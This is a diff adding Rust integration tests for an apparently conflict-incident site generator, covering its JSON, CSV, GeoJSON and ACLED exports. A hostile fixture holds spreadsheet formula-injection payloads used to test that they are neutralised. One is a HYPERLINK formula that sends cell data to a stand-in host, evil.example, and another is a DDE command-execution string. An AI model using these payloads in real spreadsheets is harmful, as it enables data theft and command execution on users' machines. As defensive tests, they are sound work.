@@ -1,0 +1,478 @@
+//! Data exports (issues 14 and 15): every export carries the whole model, one row per
+//! published incident, parsed here with `csv` and `serde_json` and compared with the records
+//! as written; CSV cells a spreadsheet would run as formulas are neutralised in every CSV, and
+//! the ACLED file still round-trips exactly.
+
+mod support;
+
+use std::collections::BTreeMap;
+use std::path::Path;
+
+use briefwerk::import::import_acled;
+use briefwerk::render::export::{ACLED_COLUMNS, ACLED_FILE, COLUMNS};
+use serde_json::{Value, json};
+use support::{SiteTest, copy_dir};
+
+/// The repository's example site (or only its site.yaml and groups) in a temporary directory.
+fn example(groups_only: bool) -> SiteTest {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("site");
+    let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
+    std::fs::create_dir_all(root.join("content/incidents")).unwrap();
+    std::fs::copy(repo.join("site.yaml"), root.join("site.yaml")).unwrap();
+    if groups_only {
+        // The profiles without their bodies, whose `@incident` links need the example's
+        // incidents.
+        copy_dir(&repo.join("content/groups"), &root.join("content/groups"));
+        for e in std::fs::read_dir(root.join("content/groups")).unwrap() {
+            let p = e.unwrap().path();
+            let text = std::fs::read_to_string(&p).unwrap();
+            let end = text[3..].find("\n---").unwrap() + 3 + 4;
+            std::fs::write(&p, format!("{}\n", &text[..end])).unwrap();
+        }
+    } else {
+        copy_dir(&repo.join("content"), &root.join("content"));
+    }
+    let out = dir.path().join("out");
+    SiteTest { dir, root, out }
+}
+
+fn read(t: &SiteTest, rel: &str) -> Vec<u8> {
+    std::fs::read(t.out.join(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"))
+}
+
+/// Header and rows of a CSV, each row by column name; the raw cells too.
+fn csv_rows(bytes: &[u8]) -> (Vec<String>, Vec<BTreeMap<String, String>>) {
+    let mut r = csv::Reader::from_reader(bytes);
+    let headers: Vec<String> = r.headers().unwrap().iter().map(str::to_string).collect();
+    let rows = r
+        .records()
+        .map(|rec| {
+            let rec = rec.expect("RFC 4180 row");
+            assert_eq!(rec.len(), headers.len());
+            headers
+                .iter()
+                .cloned()
+                .zip(rec.iter().map(str::to_string))
+                .collect()
+        })
+        .collect();
+    (headers, rows)
+}
+
+fn json(bytes: &[u8]) -> Value {
+    serde_json::from_slice(bytes).expect("valid JSON")
+}
+
+/// An incident with every field the content format has today, written by hand.
+const FULL: &str = r#"---
+title: "Full record"
+date: "2017-05-14"
+end_date: "2017-05-15"
+location:
+  place: "Boni"
+  admin1: "Mopti"
+  country: ML
+  lat: 15.033333
+  lon: -2.216667
+  precision: exact
+groups:
+  - id: jnim
+    attribution: claimed
+    claim_date: "2017-05-16"
+    claim_medium: statement
+  - {id: isgs, attribution: suspected}
+  - {id: aqim, attribution: disputed}
+attribution: claimed
+event_type: ambush
+targets: ["Malian armed forces", "civilians"]
+casualties:
+  killed: {min: 10, max: 12}
+  wounded: unknown
+  captured: {min: 2}
+  attackers_killed: 4
+tags: [convoy, mopti]
+summary: "A convoy was ambushed near Boni."
+sources:
+  - {title: "Convoy ambushed", url: "https://e.org/a", publisher: "Wire", date: "2017-05-15"}
+  - {title: "A print source"}
+---
+Body.
+"#;
+
+#[test]
+fn incidents_json_csv_and_geojson_carry_the_record_as_written() {
+    let t = example(true);
+    t.write("content/incidents/2017-05-14-full.md", FULL);
+    t.write(
+        "content/incidents/2017-08-late.md",
+        "---\ntitle: Late\ndate: \"2017-08\"\nlocation: {country: BF}\nsources: [{title: S}]\n---\n",
+    );
+    t.build().expect("builds");
+    let list = json(&read(&t, "data/incidents.json"));
+    let list = list.as_array().unwrap();
+    assert_eq!(list.len(), 2);
+    let full = &list[0];
+    assert_eq!(
+        full,
+        &json!({
+            "id": "2017-05-14-full",
+            "title": "Full record",
+            "date": "2017-05-14",
+            "end_date": "2017-05-15",
+            "date_precision": "day",
+            "event_type": "ambush",
+            "attribution": "claimed",
+            "claims": null,
+            "groups": [
+                {"id": "jnim", "name": "Jama'at Nusrat al-Islam wal-Muslimin", "attribution": "claimed",
+                 "claim_date": "2017-05-16", "claim_medium": "statement",
+                 "claimed_killed": null, "claimed_wounded": null, "claimed_captured": null},
+                {"id": "isgs", "name": "Islamic State in the Greater Sahara", "attribution": "suspected",
+                 "claim_date": null, "claim_medium": null,
+                 "claimed_killed": null, "claimed_wounded": null, "claimed_captured": null},
+                {"id": "aqim", "name": "Al-Qaeda in the Islamic Maghreb", "attribution": "disputed",
+                 "claim_date": null, "claim_medium": null,
+                 "claimed_killed": null, "claimed_wounded": null, "claimed_captured": null}
+            ],
+            "location": {"place": "Boni", "admin1": "Mopti", "admin2": null, "country": "ML",
+                         "country_name": "Mali", "lat": 15.033333, "lon": -2.216667, "precision": "exact"},
+            "targets": [
+                {"actor": "Malian armed forces", "kind": null, "group": null},
+                {"actor": "civilians", "kind": null, "group": null}
+            ],
+            "casualties": {
+                "killed": {"min": 10, "max": 12, "unknown": false},
+                "wounded": {"min": null, "max": null, "unknown": true},
+                "captured": {"min": 2, "max": null, "unknown": false},
+                "attackers_killed": {"min": 4, "max": 4, "unknown": false},
+                "fatalities": null
+            },
+            "tags": ["convoy", "mopti"],
+            "summary": "A convoy was ambushed near Boni.",
+            "sources": [
+                {"title": "Convoy ambushed", "url": "https://e.org/a", "publisher": "Wire", "date": "2017-05-15"},
+                {"title": "A print source", "url": null, "publisher": null, "date": null}
+            ],
+            "after_cutoff": false,
+            "same_event_as": null,
+            "distinct_from": [],
+            "url": "https://example.org/sahel/incidents/2017-05-14-full/",
+            "schema_version": 2
+        })
+    );
+    // Dated after the site's data_cutoff (2017-06-30): published, and says so.
+    assert_eq!(list[1]["after_cutoff"], true);
+    assert_eq!(list[1]["date_precision"], "month");
+    assert_eq!(list[1]["location"]["precision"], "country");
+
+    let (header, rows) = csv_rows(&read(&t, "data/incidents.csv"));
+    assert_eq!(header, COLUMNS);
+    assert_eq!(rows.len(), 2);
+    let r = &rows[0];
+    for (col, want) in [
+        ("event_id", "2017-05-14-full"),
+        ("event_date", "2017-05-14"),
+        ("date_precision", "day"),
+        ("end_date", "2017-05-15"),
+        ("actor_ids", "jnim; isgs; aqim"),
+        ("groups_claimed", "jnim"),
+        ("groups_suspected", "isgs"),
+        ("groups_disputed", "aqim"),
+        ("claim_dates", "jnim=2017-05-16"),
+        ("claim_media", "jnim=statement"),
+        ("admin1", "Mopti"),
+        ("location", "Boni"),
+        ("latitude", "15.033333"),
+        ("longitude", "-2.216667"),
+        ("location_precision", "exact"),
+        ("killed_min", "10"),
+        ("killed_max", "12"),
+        ("wounded_unknown", "true"),
+        ("captured_min", "2"),
+        ("captured_max", ""),
+        ("attackers_killed_min", "4"),
+        ("attackers_killed_max", "4"),
+        ("attackers_killed_unknown", "false"),
+        ("fatalities_min", ""),
+        ("targets", "Malian armed forces; civilians"),
+        ("sources", "https://e.org/a; A print source"),
+        ("after_cutoff", "false"),
+        ("schema_version", "2"),
+    ] {
+        assert_eq!(r[col], want, "column {col}");
+    }
+    assert_eq!(rows[1]["after_cutoff"], "true");
+    assert_eq!(rows[1]["date_precision"], "month");
+    assert!(!header.iter().any(|h| h == "time_precision"));
+
+    // GeoJSON: every published incident, the unlocated one with a null geometry (RFC 7946
+    // §3.2), properties exactly the JSON record.
+    let geo = json(&read(&t, "data/incidents.geojson"));
+    let features = geo["features"].as_array().unwrap();
+    assert_eq!(features.len(), 2);
+    assert_eq!(
+        features[0]["geometry"],
+        json!({"type": "Point", "coordinates": [-2.216667, 15.033333]})
+    );
+    assert_eq!(features[0]["properties"], *full);
+    assert!(features[1]["geometry"].is_null());
+    assert_eq!(features[1]["id"], "2017-08-late");
+    // The per-group and per-country copies hold the same records.
+    for (dir, ids) in [
+        ("groups/jnim/", vec!["2017-05-14-full"]),
+        ("groups/aqim/", vec!["2017-05-14-full"]),
+        ("countries/bf/", vec!["2017-08-late"]),
+    ] {
+        let l = json(&read(&t, &format!("{dir}incidents.json")));
+        let got: Vec<&str> = l
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|o| o["id"].as_str().unwrap())
+            .collect();
+        assert_eq!(got, ids, "{dir}");
+        let g = json(&read(&t, &format!("{dir}incidents.geojson")));
+        assert_eq!(g["features"].as_array().unwrap().len(), ids.len(), "{dir}");
+        let (h, rows) = csv_rows(&read(&t, &format!("{dir}incidents.csv")));
+        assert_eq!(h, COLUMNS);
+        assert_eq!(rows.len(), ids.len(), "{dir}");
+    }
+}
+
+#[test]
+fn every_export_of_the_example_site_has_one_row_per_published_incident() {
+    let t = example(false);
+    let report = t.build().expect("builds");
+    let (_, rows) = csv_rows(&read(&t, "data/incidents.csv"));
+    let list = json(&read(&t, "data/incidents.json"));
+    let list = list.as_array().unwrap();
+    let geo = json(&read(&t, "data/incidents.geojson"));
+    let features = geo["features"].as_array().unwrap();
+    let (_, acled) = csv_rows(&read(&t, ACLED_FILE));
+    assert_eq!(rows.len(), report.incidents);
+    assert_eq!(list.len(), report.incidents);
+    assert_eq!(features.len(), report.incidents);
+    assert_eq!(acled.len(), report.incidents);
+    assert!(
+        features.iter().any(|f| f["geometry"].is_null()),
+        "the example site has an incident without coordinates"
+    );
+    for ((row, o), f) in rows.iter().zip(list).zip(features) {
+        assert_eq!(row["event_id"], o["id"].as_str().unwrap());
+        assert_eq!(f["id"], o["id"]);
+        // The flat CSV says what the nested JSON says.
+        let ids: Vec<&str> = o["groups"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|g| g["id"].as_str().unwrap())
+            .collect();
+        assert_eq!(row["actor_ids"], ids.join("; "));
+        for fig in ["killed", "wounded", "captured", "attackers_killed"] {
+            let v = &o["casualties"][fig];
+            let cell = |k: &str| match &v[k] {
+                Value::Number(n) => n.to_string(),
+                _ => String::new(),
+            };
+            assert_eq!(row[&format!("{fig}_min")], cell("min"), "{fig}");
+            assert_eq!(row[&format!("{fig}_max")], cell("max"), "{fig}");
+            assert_eq!(
+                row[&format!("{fig}_unknown")],
+                (v["unknown"] == true).to_string()
+            );
+        }
+        assert_eq!(row["date_precision"], o["date_precision"].as_str().unwrap());
+        assert_eq!(
+            row["location_precision"],
+            o["location"]["precision"].as_str().unwrap()
+        );
+    }
+}
+
+#[test]
+fn groups_json_carries_typed_dated_relationships_both_ways() {
+    let t = example(false);
+    t.build().expect("builds");
+    let groups = json(&read(&t, "data/groups.json"));
+    let by_id: BTreeMap<&str, &Value> = groups
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|g| (g["id"].as_str().unwrap(), g))
+        .collect();
+    let rel = |g: &str, other: &str| -> Value {
+        by_id[g]["relationships"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|r| r["group"] == other)
+            .cloned()
+            .unwrap_or_else(|| panic!("{g} has no relationship with {other}"))
+    };
+    // Written in al-mulathamun's file: `splinter_of aqim from 2012-12`.
+    let own = rel("al-mulathamun", "aqim");
+    assert_eq!(
+        (&own["kind"], &own["inverse"], &own["label"], &own["from"]),
+        (
+            &json!("splinter_of"),
+            &json!(false),
+            &json!("splinter of"),
+            &json!("2012-12")
+        )
+    );
+    assert!(
+        own["sources"][0]["url"]
+            .as_str()
+            .unwrap()
+            .starts_with("https://")
+    );
+    // And read from the other side on AQIM's record.
+    let back = rel("aqim", "al-mulathamun");
+    assert_eq!(
+        (
+            &back["kind"],
+            &back["inverse"],
+            &back["label"],
+            &back["from"]
+        ),
+        (
+            &json!("splinter_of"),
+            &json!(true),
+            &json!("splinter group"),
+            &json!("2012-12")
+        )
+    );
+    assert_eq!(
+        by_id["jnim"]["acled_actor"],
+        "JNIM: Group for Support of Islam and Muslims"
+    );
+    assert_eq!(by_id["jnim"]["inter"], 2);
+    assert_eq!(by_id["jnim"]["schema_version"], 2);
+}
+
+/// Hostile cells, one per OWASP formula character, an apostrophe of the value's own, and a
+/// negative coordinate that must stay a number.
+const HOSTILE: &str = r#"---
+title: "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+date: "2017-05-20"
+location:
+  place: "@SUM(1+1)*cmd|' /C calc'!A0"
+  admin1: "+cmd"
+  country: ML
+  lat: 12.65
+  lon: -7.25
+groups: [jnim]
+attribution: claimed
+targets: ["-2+3+cmd", "'quoted by the analyst", "\tTabbed", "\rReturn"]
+tags: [hostile]
+summary: "-- dashes first"
+sources:
+  - {title: "=1+1", publisher: "@publisher", url: "https://e.org/x"}
+---
+"#;
+
+/// Every cell of a CSV whose first character a spreadsheet would act on, unless it is a plain
+/// number.
+fn live_formulas(bytes: &[u8]) -> Vec<String> {
+    let mut r = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(bytes);
+    let mut bad = Vec::new();
+    for rec in r.records() {
+        for cell in rec.unwrap().iter() {
+            let number = cell.parse::<f64>().is_ok() && !cell.starts_with('+');
+            if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number {
+                bad.push(cell.to_string());
+            }
+        }
+    }
+    bad
+}
+
+#[test]
+fn formula_cells_are_neutralised_in_every_csv_and_the_acled_round_trip_stays_exact() {
+    let first = example(true);
+    first.write("content/incidents/2017-05-20-hostile.md", HOSTILE);
+    first.write("content/incidents/2017-05-14-full.md", FULL);
+    first.build().expect("builds");
+    for f in [
+        "data/incidents.csv",
+        ACLED_FILE,
+        "groups/jnim/incidents.csv",
+        "countries/ml/incidents.csv",
+    ] {
+        let bytes = read(&first, f);
+        assert_eq!(live_formulas(&bytes), Vec::<String>::new(), "{f}");
+    }
+    let (_, rows) = csv_rows(&read(&first, "data/incidents.csv"));
+    let h = rows
+        .iter()
+        .find(|r| r["event_id"] == "2017-05-20-hostile")
+        .unwrap();
+    assert_eq!(
+        h["title"],
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    );
+    assert_eq!(h["location"], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(h["admin1"], "'+cmd");
+    assert_eq!(h["summary"], "'-- dashes first");
+    assert_eq!(
+        h["targets"],
+        "'-2+3+cmd; 'quoted by the analyst; \tTabbed; \rReturn"
+    );
+    // Numbers stay numbers.
+    assert_eq!(
+        (h["latitude"].as_str(), h["longitude"].as_str()),
+        ("12.65", "-7.25")
+    );
+    let (header, acled) = csv_rows(&read(&first, ACLED_FILE));
+    assert_eq!(header, ACLED_COLUMNS);
+    let a = acled
+        .iter()
+        .find(|r| r["tags"].contains("id=2017-05-20-hostile"))
+        .unwrap();
+    assert_eq!(a["admin1"], "'+cmd");
+    assert_eq!(a["notes"], "'-- dashes first");
+    assert_eq!(a["source"], "'@publisher");
+    assert_eq!(a["longitude"], "-7.25");
+    // The JSON carries the values as written: it is not for spreadsheets.
+    let list = json(&read(&first, "data/incidents.json"));
+    let hj = list
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|o| o["id"] == "2017-05-20-hostile")
+        .unwrap()
+        .clone();
+    assert_eq!(hj["location"]["admin1"], "+cmd");
+
+    // Imported into a site with only the groups, the records come back exactly: the importer
+    // removes what the exporter added, and nothing else.
+    let second = example(true);
+    let path = second.dir.path().join("acled.csv");
+    std::fs::write(&path, read(&first, ACLED_FILE)).unwrap();
+    let report = import_acled(&second.root, &path, Path::new("content/incidents")).unwrap();
+    assert!(report.malformed.is_empty(), "{:?}", report.malformed);
+    assert_eq!(report.created, 2);
+    second.build().expect("imported site builds");
+    let (a, b) = (read(&first, ACLED_FILE), read(&second, ACLED_FILE));
+    let (a, b) = (String::from_utf8_lossy(&a), String::from_utf8_lossy(&b));
+    for (x, y) in a.split("\r\n").zip(b.split("\r\n")) {
+        assert_eq!(x, y, "acled.csv changed in the round trip");
+    }
+    assert_eq!(a, b);
+    let again = json(&read(&second, "data/incidents.json"));
+    let hj2 = again
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|o| o["id"] == "2017-05-20-hostile")
+        .unwrap();
+    assert_eq!(hj2, &hj);
+    assert_eq!(
+        hj2["title"],
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    );
+    assert_eq!(hj2["targets"][1]["actor"], "'quoted by the analyst");
+}
